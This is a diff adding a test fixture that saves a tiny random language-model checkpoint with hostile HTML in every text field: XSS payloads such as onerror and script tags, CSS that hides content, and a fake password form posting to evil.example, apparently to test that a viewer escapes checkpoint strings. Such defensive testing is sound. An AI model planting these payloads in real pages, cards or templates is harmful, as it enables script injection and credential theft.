@@ -56,3 +56,40 @@ def save_tiny_seq2seq(path: Path, *, seed: int = 0) -> Path:
             if p.dim() > 1:
                 p.normal_(0.0, 0.2)
     return save_checkpoint(path, model, config, tokenizer=PreTrainedTokenizerFast.from_pretrained(tok_dir))
+
+
+# A checkpoint whose every string is hostile HTML: config fields, card, tokens, special tokens, chat template.
+HOSTILE_HTML = ('<img src=x onerror="alert(1)"><form action="https://evil.example/login">'
+                '<input type=password></form>')
+HOSTILE_TOKENS = ["<img src=x onerror=alert(2)>", "<script>alert(3)</script>", "<b>bold</b>", "<a href=//evil>x</a>",
+                  "</div><h1>", "&lt;img&gt;", "<style>*{display:none}</style>", "plain"]
+
+
+def save_hostile_checkpoint(path: Path) -> Path:
+    """A random 2-layer decoder in our own format with HTML in every text field a checkpoint controls."""
+    import torch
+    from tokenizers import Tokenizer, decoders, models, pre_tokenizers
+    from transformers import PreTrainedTokenizerFast
+
+    from playground.checkpoints.own_format import save_checkpoint
+    from playground.config import ModelConfig
+    from playground.models import build_model
+
+    vocab = {tok: i for i, tok in enumerate(["<pad>", HOSTILE_HTML[:20], "</s>"] + HOSTILE_TOKENS)}
+    tok = Tokenizer(models.WordLevel(vocab, unk_token="<pad>"))
+    tok.pre_tokenizer = pre_tokenizers.WhitespaceSplit()
+    tok.decoder = decoders.Fuse()
+    tokenizer = PreTrainedTokenizerFast(tokenizer_object=tok, pad_token="<pad>", bos_token=HOSTILE_HTML[:20],
+                                        eos_token="</s>")
+    tokenizer.chat_template = "{% for m in messages %}" + HOSTILE_HTML + "{{ m['content'] }}{% endfor %}"
+    config = ModelConfig(family=HOSTILE_HTML, vocab_size=len(vocab), d_model=16, n_layers=2, n_heads=2, n_kv_heads=1,
+                         d_ff=24, max_positions=64, bos_token_id=1, eos_token_id=2, pad_token_id=0,
+                         extra={"note": HOSTILE_HTML, HOSTILE_HTML: "key"})
+    torch.manual_seed(0)
+    model = build_model(config)
+    with torch.no_grad():
+        for p in model.parameters():
+            p.normal_(0, 0.5)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    return save_checkpoint(path, model, config, tokenizer=tokenizer,
+                           card={"description": {"en": HOSTILE_HTML, "zh": HOSTILE_HTML}, "example_prompt": HOSTILE_HTML})
